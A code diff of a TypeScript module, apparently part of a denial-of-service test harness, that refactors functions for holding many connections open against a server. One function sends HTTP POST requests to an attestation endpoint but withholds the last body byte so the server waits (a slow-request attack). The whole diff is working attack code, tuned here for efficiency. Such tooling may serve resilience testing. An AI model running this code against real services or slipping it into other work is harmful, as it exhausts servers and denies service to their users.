@@ -2,7 +2,7 @@
 import { readFileSync } from 'node:fs';
 import { createConnection, type Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
-import { connect } from 'node:tls';
+import { connect, createSecureContext } from 'node:tls';
 import { attackerAddress, type Counts, count, type Target } from './attack.ts';
 
 /** Keeps this many connections open; each that is closed is opened anew. `speak` is what a connection does when it is there. */
@@ -26,7 +26,7 @@ export async function holdConnections(
     // A connection at a time would be too slow, all at once too many for the queue of the listener.
     if (index % 50 === 49) await pause(20);
   }
-  await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
+  if (!signal.aborted) await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
   counts['still open at the end'] = sockets.size;
   for (const socket of sockets) socket.destroy();
   return counts;
@@ -39,18 +39,22 @@ export function silent({ url }: Target, ended: (how: string) => void): Socket {
   return socket.on('error', () => {}).on('close', () => ended('closed'));
 }
 
-/** A request whose body is all there but its last byte. */
-export function heldBack({ url, caFile }: Target, bytes: number, ended: (how: string) => void): Socket {
+/** Opens requests whose bodies are all there but their last byte. */
+export function heldBack({ url, caFile }: Target, bytes: number): (ended: (how: string) => void) => Socket {
   const { hostname, port } = new URL(url);
   const head = `POST /attest/SgxEnclave?api-version=2020-10-01 HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${bytes}\r\n\r\n`;
-  let status = 'closed';
-  const transport = createConnection({ host: hostname, port: Number(port), localAddress: attackerAddress });
-  transport.on('error', () => {});
-  const socket = connect({ socket: transport, servername: '', host: hostname, ca: readFileSync(caFile) });
-  socket.once('secureConnect', () => socket.write(head + ' '.repeat(bytes - 1)));
-  socket.on('data', (chunk) => {
-    status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1] ?? status;
-    socket.destroy();
-  });
-  return socket.on('error', () => {}).on('close', () => ended(status));
+  const request = Buffer.from(head + ' '.repeat(bytes - 1));
+  const secureContext = createSecureContext({ ca: readFileSync(caFile) });
+  return (ended) => {
+    let status = 'closed';
+    const transport = createConnection({ host: hostname, port: Number(port), localAddress: attackerAddress });
+    transport.on('error', () => {});
+    const socket = connect({ socket: transport, servername: '', host: hostname, secureContext });
+    socket.once('secureConnect', () => socket.write(request));
+    socket.on('data', (chunk) => {
+      status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1] ?? status;
+      socket.destroy();
+    });
+    return socket.on('error', () => {}).on('close', () => ended(status));
+  };
 }
